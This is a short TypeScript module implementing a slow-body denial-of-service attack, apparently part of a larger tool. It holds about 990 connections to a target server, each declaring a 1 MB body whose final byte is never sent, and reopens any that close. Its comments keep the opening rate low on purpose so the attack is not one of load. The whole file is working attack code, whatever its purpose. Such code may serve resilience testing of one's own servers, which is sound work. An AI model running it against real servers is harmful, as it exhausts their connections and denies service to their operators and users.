import { connect, headOf, pause, send, type Target } from './connection.js';

/** Nearly all connections that a receiver accepts. */
const CONNECTIONS = 990;
const BODY_BYTES = 1_000_000;
/** How many connections are opened in a second, so that the attack is not one of load. */
const OPENED_PER_SECOND = 20;

/** Holds 990 connections with bodies of 1 MB whose last byte never comes; what is closed is opened again. */
export async function halfSentBodies(target: Target, signal: AbortSignal): Promise<Record<string, number>> {
  const body = Buffer.alloc(BODY_BYTES - 1, ' ');
  const counts = { halfSentBodies: 0, mostHeldOpen: 0, answered: 0 };
  let open = 0;
  const hold = async () => {
    open += 1;
    counts.halfSentBodies += 1;
    counts.mostHeldOpen = Math.max(counts.mostHeldOpen, open);
    const connection = connect(target, signal);
    await send(connection, headOf(target, `Content-Length: ${BODY_BYTES}`));
    await send(connection, body);
    if ((await connection.closed) >= 400) counts.answered += 1;
    open -= 1;
  };
  const held = new Set<Promise<void>>();
  while (!signal.aborted) {
    if (open < CONNECTIONS) {
      const holding = hold().finally(() => held.delete(holding));
      held.add(holding);
    }
    await pause(1_000 / OPENED_PER_SECOND, signal);
  }
  await Promise.all(held);
  return counts;
}
